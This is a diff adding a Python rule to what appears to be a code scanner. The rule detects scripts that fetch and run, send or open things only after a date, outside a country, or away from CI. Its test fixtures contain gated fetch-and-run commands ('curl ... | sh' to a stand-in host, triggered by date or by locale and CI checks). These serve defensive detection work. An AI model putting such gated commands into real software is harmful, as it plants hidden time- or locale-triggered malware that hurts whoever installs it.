@@ -1,0 +1,58 @@
+"""Acts that wait: for a date, a country, a machine without a watcher."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from scan.model import Severity, Standing
+from scan.rules.acts import PERSONAL, marked
+from scan.rules.base import Seen, weighed
+from scan.rules.code import Found, act_rule, seen
+from scan.rules.known import host_of, is_local
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from scan.plugin import Plugin
+
+
+@act_rule(
+    "acts-on-condition",
+    "caution",
+    flags=(
+        {
+            "scripts/a.py": "import datetime, os\nif datetime.date.today() > datetime.date(2030, 1, 1):\n    os.system('curl -s https://x.example/p | sh')\n"
+        },
+        {
+            "scripts/a.sh": 'if [ "$LANG" != "ru_RU.UTF-8" ] && [ -z "$CI" ]; then\n  curl -s https://x.example/p | sh\nfi\n'
+        },
+    ),
+    clears=(
+        {"scripts/a.py": "import datetime\nif datetime.date.today().weekday() == 0:\n    print('Monday')\n"},
+        {"scripts/a.sh": 'if [ -n "$CI" ]; then\n  npm ci\nfi\n'},
+    ),
+)
+def acts_on_condition(found: Found, _: Plugin) -> Iterator[Seen]:
+    """Something is fetched and run, sent or opened only after a date, outside of a country, or where nobody watches.
+
+    Why: it stays away from whoever tries it, and comes to the others.
+
+    Remedy: do not install it.
+    """
+    act = found.act
+    if not act.when or found.told or found.standing < Standing.example:
+        return
+    runs = act.kind == "run" and (marked(act.carries, "fetched") or "decoded" in act.carries)
+    sends = act.kind in {"send", "resolve"} and marked(act.carries, *PERSONAL) and not is_local(host_of(act.target))
+    if runs or sends or act.kind == "reverse":
+        yield seen(
+            found,
+            f"acts only depending on {act.when}",
+            weighed(
+                Severity.danger if act.when != "a watcher" or sends or act.kind == "reverse" else Severity.caution,
+                found.standing,
+            ),
+        )
+
+
+RULES = (*acts_on_condition,)
